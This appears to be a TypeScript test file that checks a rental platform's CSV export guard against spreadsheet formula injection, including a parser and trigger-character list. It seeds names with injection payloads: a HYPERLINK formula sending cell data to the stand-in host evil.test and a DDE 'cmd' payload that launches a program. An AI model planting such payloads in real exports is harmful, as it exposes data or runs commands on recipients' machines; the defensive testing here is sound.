// The CSV export's formula guard (issue 18; docs/decisions/032-final-payouts-and-money-codes.md),
// cell by cell through the real route: a car or user name that starts with a character a
// spreadsheet reads as a formula (= + - @, a tab, a carriage return, or their full-width forms)
// comes out with a leading apostrophe, so the spreadsheet shows it as text; the file still parses
// as RFC 4180, money stays a plain number, and names that only contain those characters are kept.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FINANCE_CSV_HEADER } from '@karoo/shared';
import type { BookingRow } from '../src/db/schema';
import { csvLines } from '../src/lib/csv';
import { createSignedInUser, createTestApp, type TestApp } from './helpers';
import { recordTestCharge } from './helpers/ledger';
import { createTestBooking, createTestCar } from './helpers/vehicles';

type Signed = Awaited<ReturnType<typeof createSignedInUser>>;

/** RFC 4180 read back: quoted cells may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch !== '"') cell += ch;
      else if (text[i + 1] === '"') {
        cell += '"';
        i++;
      } else quoted = false;
    } else if (ch === '"' && cell === '') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/** The characters OWASP's CSV injection advice names, and the full-width forms some spreadsheets read the same way. */
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
const col = (name: (typeof FINANCE_CSV_HEADER)[number]) => FINANCE_CSV_HEADER.indexOf(name);

let t: TestApp;
let admin: Signed;
const trips: { booking: BookingRow; carCell: string; renterCell: string; hostCell: string }[] = [];

beforeAll(async () => {
  t = await createTestApp({ env: { BROWSE_CACHE_MS: '0' } });
  t.clock.set('2030-03-10T08:00:00Z');
  admin = await createSignedInUser(t.app, t.ctx, { role: 'admin', verification_status: 'verified' });
  for (const [i, c] of TRIGGERS.entries()) {
    const host = await createSignedInUser(t.app, t.ctx, { role: 'host', verification_status: 'verified' });
    const renter = await createSignedInUser(t.app, t.ctx, { verification_status: 'verified' });
    const car = await createTestCar(t.ctx, host.user);
    // Written straight to the tables: today's forms refuse most of these, but rows from older
    // versions, imports or a future form must still come out harmless.
    const make = `${c}HYPERLINK("http://evil.test/?"&A1,"Click")`;
    const renterName = `${c}cmd|' /C calc'!A0-${i}`;
    const hostName = `${c}1+1-${i}`;
    await t.db.updateTable('cars').set({ car_make: make, car_model: 'Polo, GTI-R' }).where('id', '=', car.id).execute();
    await t.db.updateTable('users').set({ username: renterName }).where('id', '=', renter.user.id).execute();
    await t.db.updateTable('users').set({ username: hostName }).where('id', '=', host.user.id).execute();
    const start = new Date(Date.UTC(2030, 0, 2 + i * 3)).toISOString().slice(0, 10);
    const b = await createTestBooking(t.ctx, car, renter.user, { start, days: 2, status: 'completed' });
    const done = new Date(Date.UTC(2030, 1, 1 + i, 10));
    const booking = await t.db.updateTable('bookings').set({ completed_at: done, paid_at: done }).where('id', '=', b.id).returningAll().executeTakeFirstOrThrow();
    await recordTestCharge(t.ctx, booking);
    trips.push({ booking, carCell: `'${make} Polo, GTI-R (${car.car_username})`, renterCell: `'${renterName}`, hostCell: `'${hostName}` });
  }
  // A name with those characters inside, not first, is left as it is.
  const host = await createSignedInUser(t.app, t.ctx, { role: 'host', verification_status: 'verified' });
  const renter = await createSignedInUser(t.app, t.ctx, { verification_status: 'verified' });
  const car = await createTestCar(t.ctx, host.user, { make: 'Mercedes-Benz', model: 'C200 =+@' });
  const b = await createTestBooking(t.ctx, car, renter.user, { start: '2030-03-01', days: 2, status: 'completed' });
  const done = new Date('2030-03-03T10:00:00Z');
  const booking = await t.db.updateTable('bookings').set({ completed_at: done, paid_at: done }).where('id', '=', b.id).returningAll().executeTakeFirstOrThrow();
  await recordTestCharge(t.ctx, booking);
  trips.push({ booking, carCell: `Mercedes-Benz C200 =+@ (${car.car_username})`, renterCell: renter.user.username, hostCell: host.user.username });
});
afterAll(async () => {
  await t?.close();
});

describe('GET /api/earnings/admin/transactions.csv: the formula guard, cell by cell', () => {
  it('every car, renter and host cell that starts with a formula character starts with an apostrophe; the rest is kept as written', async () => {
    const res = await t.app.inject({ method: 'GET', url: '/api/earnings/admin/transactions.csv', headers: admin.headers });
    expect(res.statusCode).toBe(200);
    const [header, ...rows] = parseCsv(res.body);
    expect(header).toEqual([...FINANCE_CSV_HEADER]);
    expect(rows).toHaveLength(trips.length);
    for (const trip of trips) {
      const row = rows.find((r) => r[col('booking number')] === trip.booking.booking_number);
      expect(row, trip.booking.booking_number).toBeDefined();
      expect(row).toHaveLength(FINANCE_CSV_HEADER.length);
      expect(row![col('car')]).toBe(trip.carCell);
      expect(row![col('renter')]).toBe(trip.renterCell);
      expect(row![col('host')]).toBe(trip.hostCell);
      // Money is written as numbers, rand with 2 decimals, never defused.
      expect(row![col('charged')]).toBe((trip.booking.total_price_cents / 100).toFixed(2));
      expect(row![col('host earnings')]).toBe((trip.booking.car_owner_earnings_cents / 100).toFixed(2));
    }
    // No cell of the file starts with a formula character.
    for (const cell of rows.flat()) expect(TRIGGERS.includes(cell[0] ?? '')).toBe(false);
  });
});

describe('csvLines', () => {
  it('keeps a negative number a number, and defuses the same characters as text', () => {
    expect(csvLines([[-12.5, '-12.50', 'R -12.50', 0, '=SUM(A1)']], { decimals: 2 })).toBe("-12.50,'-12.50,R -12.50,0.00,'=SUM(A1)\r\n");
  });
});
